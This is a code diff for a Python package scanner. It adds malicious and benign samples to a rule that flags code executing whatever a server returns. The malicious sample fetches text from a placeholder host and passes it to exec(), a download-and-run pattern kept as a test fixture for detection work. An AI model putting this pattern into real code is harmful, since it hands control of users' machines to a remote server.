@@ -8,6 +8,7 @@ from wheelmark.scan.facts import Act, Facts
 from wheelmark.scan.report import Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import graded, told
+from wheelmark.scan.samples import Sample, Samples
 from wheelmark.scan.values import Taint
 
 
@@ -37,4 +38,32 @@ RULE = Rule(
     message="What a server answers is executed as code: the file does whatever that server says at that moment.",
     reference="https://attack.mitre.org/techniques/T1105/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import requests
+
+
+                def _news():
+                    return requests.get("https://news.example.invalid/today").text
+
+
+                exec(_news())
+            """),
+        ),
+        benign=(
+            Sample.imported("""
+                import json
+                import urllib.request
+
+
+                def latest():
+                    with urllib.request.urlopen("https://pypi.example.invalid/pypi/widget/json") as response:
+                        return json.load(response)["info"]["version"]
+
+
+                exec("ANSWER = 42")
+            """),
+        ),
+    ),
 )
